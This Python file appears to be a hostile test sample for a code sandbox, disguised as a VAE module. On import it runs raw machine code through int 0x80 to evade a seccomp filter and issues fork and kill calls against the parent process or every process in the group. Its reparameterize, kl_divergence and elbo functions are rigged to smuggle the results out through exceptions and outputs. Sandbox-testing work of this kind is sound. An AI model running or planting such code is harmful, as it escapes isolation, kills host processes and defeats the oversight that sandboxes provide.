"""Machine code that enters the kernel by int 0x80, where the filter's numbers mean other calls."""
# expects: full

import ctypes
import mmap
import os
import time

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


# push rbx; mov eax, edi; mov ebx, esi; mov ecx, edx; xor edx, edx; int 0x80; pop rbx; ret
CODE = bytes.fromhex("53 89f8 89f3 89d1 31d2 cd80 5b c3")
FORK, KILL, SOCKETCALL, GETPID = 2, 37, 102, 20


def system_call(*numbers):
    """Enter the kernel as a 32-bit program, whose calls have other numbers."""
    memory = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(CODE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    return ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(address)(*numbers)


def linger():
    """Be what is left over, for a minute at most, under a name that can be looked for."""
    ctypes.CDLL(None).prctl(15, b"vae-hostile")
    time.sleep(60)
    os._exit(0)


def attack():
    for number, first, second in (
        (GETPID, 0, 0),
        (FORK, 0, 0),
        (KILL, os.getppid() if os.getuid() else 0, 0),
    ):
        result = system_call(number, first, second)
        if result == 0 and number == FORK:
            linger()
        if result >= 0:
            publish(f"ESCAPED int 0x80 {number} {result}")


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
